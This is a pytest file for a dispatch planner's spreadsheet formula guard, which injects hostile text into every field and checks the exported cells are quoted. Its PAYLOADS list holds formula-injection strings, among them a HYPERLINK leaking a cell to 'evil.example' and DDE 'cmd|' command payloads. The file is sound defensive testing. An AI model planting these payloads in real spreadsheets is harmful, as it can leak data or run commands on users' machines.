"""Tests for dispatch.outputs.cells: the one formula guard, over every spreadsheet writer —
the plan folder (plan.xlsx and csv/, supply sheets included), comparison.csv/.xlsx and the day
template — with a hostile text in every text field of the input."""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from dispatch.intake.reader import read_day
from dispatch.intake.template import write_template
from dispatch.outputs.cells import FORMULA_STARTS, TEXT_SIGN, safe_cell, safe_text
from dispatch.outputs.plan_folder import PlanFiles, write_plan
from dispatch.planner import plan_day
from scenarios.compare import Comparison, Failure, ScenarioResult, write_comparison
from tests.paths import DATA
from tests.scenarios.test_compare import kpis

SUPPLY_SMALL = DATA / "days" / "supply_small"
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
)
# Columns that hold ids (mapped consistently in every table) and free text.
ID_COLUMNS = (
    "worker_id",
    "enterprise_id",
    "station_id",
    "depot_id",
    "vehicle_id",
    "shipment_id",
    "operator",
)
TEXT_COLUMNS = (
    "name",
    "name_zh",
    "name_en",
    "permit_no",
    "train_no",
    "district",
    "escort_contact",
    "origin_name",
    "destination_name",
    "origin_region",
)
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def dangerous(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula."""
    first = text.lstrip(" \u00a0\u3000")[:1]
    return first in FORMULA_STARTS and not NUMBER.fullmatch(text.strip())


def hostile_day(folder: Path) -> Path:
    """supply_small with a formula payload before every id and in every text cell."""
    day = folder / "hostile"
    shutil.copytree(SUPPLY_SMALL, day)
    ids: dict[str, str] = {}
    tables = {
        p: list(csv.DictReader(io.StringIO(p.read_text("utf-8-sig")))) for p in day.glob("*.csv")
    }
    for rows in tables.values():
        for row in rows:
            for column in ID_COLUMNS:
                if row.get(column):
                    ids.setdefault(row[column], PAYLOADS[len(ids) % 4] + row[column])
    for path, rows in tables.items():
        for index, row in enumerate(rows):
            for column, value in row.items():
                if column in ID_COLUMNS or column in ("origin", "destination"):
                    row[column] = ids.get(value, value)
                elif column in TEXT_COLUMNS:
                    row[column] = PAYLOADS[index % len(PAYLOADS)] + (value or "x")
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    return day


@pytest.fixture(scope="module")
def plan_files(tmp_path_factory: pytest.TempPathFactory) -> PlanFiles:
    """The plan folder of the hostile day (planned, with trucks)."""
    folder = tmp_path_factory.mktemp("hostile")
    plan = plan_day(read_day(hostile_day(folder)))
    return write_plan(plan, folder / "plan")


def xlsx_cells(path: Path) -> Iterator[tuple[str, object]]:
    """(sheet!cell, value) of every cell of a workbook."""
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield f"{sheet.title}!{cell.coordinate}", cell.value


def csv_cells(path: Path) -> Iterator[tuple[str, str]]:
    """(file:row:column, text) of every cell of a CSV file, header included."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        for r, row in enumerate(csv.reader(handle)):
            for c, text in enumerate(row):
                yield f"{path.name}:{r}:{c}", text


def assert_guarded(cells: Iterator[tuple[str, object]]) -> list[str]:
    """No text cell reads as a formula; numbers written as numbers. The texts seen."""
    texts = []
    for where, value in cells:
        if isinstance(value, str):
            assert not dangerous(value), (where, value)
            assert not (value.startswith(TEXT_SIGN) and NUMBER.fullmatch(value[1:])), where
            texts.append(value)
    return texts


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+1", "+1"),
        ("-2.5", "-2.5"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("a\r=1", "a\n=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("a\x1b[2Jb\x07", "a[2Jb"),
        ("苏E·30001", "苏E·30001"),
    ],
)
def test_safe_text_examples(raw: str, written: str) -> None:
    """Formula starts are quoted, plain numbers and other text kept, controls dropped."""
    assert safe_text(raw) == written


def test_numbers_and_blanks_stay() -> None:
    """Numeric cells are never touched; missing values are blank."""
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(True) is True
    assert safe_cell(None) is None and safe_cell(float("nan")) is None


@given(st.text())
def test_no_text_reads_as_a_formula(text: str) -> None:
    """Whatever the text, the written cell is not a formula and keeps the text."""
    written = safe_text(text)
    assert not dangerous(written)
    assert "\r" not in written
    control = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", "", text)
    expected = re.sub("\r\n?|[\u2028\u2029]", "\n", control)
    assert written in (expected, TEXT_SIGN + expected)


def test_plan_workbook_guards_every_text_and_keeps_numbers(plan_files: PlanFiles) -> None:
    """Every sheet of plan.xlsx (supply sheets too) carries the payloads as text only."""
    cells = list(xlsx_cells(plan_files.workbook))
    texts = assert_guarded(iter(cells))
    assert any("cmd|" in t for t in texts) and any("HYPERLINK" in t for t in texts)
    assert any(isinstance(v, int | float) and not isinstance(v, bool) for _, v in cells)
    sheets = {where.split("!")[0] for where, _ in cells}
    assert any("truck" in s for s in sheets)


def test_every_csv_copy_guards_every_text(plan_files: PlanFiles) -> None:
    """The CSV copies too, the truck sheets included; counts stay plain numbers."""
    names = {p.name for p in plan_files.csvs}
    assert {"truck_trips.csv", "consignee_notices.csv", "unserved_shipments.csv"} <= names
    for path in plan_files.csvs:
        assert_guarded(csv_cells(path))
    with (plan_files.folder / "csv" / "trips.csv").open(encoding="utf-8-sig") as handle:
        trips = list(csv.DictReader(handle))
    assert trips and all(row["workers"].isdigit() for row in trips)


def test_comparison_files_guard_scenario_and_folder_names(tmp_path: Path) -> None:
    """Scenario names, folders, bases, descriptions and errors from files are text in
    comparison.csv and comparison.xlsx; the KPI deltas stay numbers."""
    results = [
        ScenarioResult(PAYLOADS[0], PAYLOADS[1], PAYLOADS[2], True, kpis()),
        ScenarioResult(
            PAYLOADS[3], "=folder", PAYLOADS[2], False, kpis(buses_used=4), description=PAYLOADS[4]
        ),
        ScenarioResult(
            "@x", "-y", PAYLOADS[2], False, None, Failure.INPUT, PAYLOADS[5], PAYLOADS[6]
        ),
    ]
    files = write_comparison(Comparison(tuple(results)), tmp_path)
    assert_guarded(csv_cells(files.csv))
    texts = assert_guarded(xlsx_cells(files.workbook))
    assert any("cmd|" in t for t in texts)
    with files.csv.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[1]["buses_used_delta"] == "-1.0"
    data = load_workbook(files.workbook).worksheets[1]
    assert -1.0 in [c.value for row in data.iter_rows() for c in row]


def test_template_cells_are_guarded(tmp_path: Path) -> None:
    """The blank day workbook goes through the same guard."""
    assert_guarded(xlsx_cells(write_template(tmp_path / "day.xlsx")))


def test_hostile_names_reach_the_outputs_as_text(plan_files: PlanFiles) -> None:
    """The guard keeps the text: the employer notices still name the employer."""
    notices = (plan_files.folder / "csv" / "employer_notices.csv").read_text(encoding="utf-8-sig")
    assert "合成测试" in notices and "'=HYPERLINK" in notices
